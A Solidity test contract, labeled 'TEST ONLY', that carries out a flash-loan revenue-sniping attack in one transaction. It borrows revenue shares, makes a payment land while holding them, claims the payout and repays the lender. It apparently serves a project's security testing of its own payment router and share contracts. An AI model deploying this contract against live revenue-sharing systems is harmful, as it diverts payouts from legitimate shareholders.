// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";

interface ISnipedRouter {
    function pay(uint256 modelId, uint256 amount) external payable returns (uint256);
}

interface ISnipedShares {
    function claim() external returns (uint256);
}

/// @notice TEST ONLY: the revenue-sniping scenario in one transaction. Borrows shares from a
/// flash lender (a pool), makes a payment land while holding them (as a gateway settling a
/// receipt would), claims, and hands the shares back.
contract RevenueSniper {
    ISnipedRouter public immutable ROUTER;
    IERC20 public immutable SHARES;
    uint256 public immutable MODEL_ID;
    address public immutable LENDER;
    uint256 public payment;
    uint256 public sniped;

    constructor(ISnipedRouter router, IERC20 shares, uint256 modelId, address lender) payable {
        ROUTER = router;
        SHARES = shares;
        MODEL_ID = modelId;
        LENDER = lender;
    }

    function arm(uint256 payment_) external {
        payment = payment_;
    }

    function onFlashLoan(uint256 amount) external {
        ROUTER.pay{value: payment}(MODEL_ID, payment);
        sniped = ISnipedShares(address(SHARES)).claim();
        // slither-disable-next-line unchecked-transfer
        SHARES.transfer(LENDER, amount);
    }

    receive() external payable {}
}
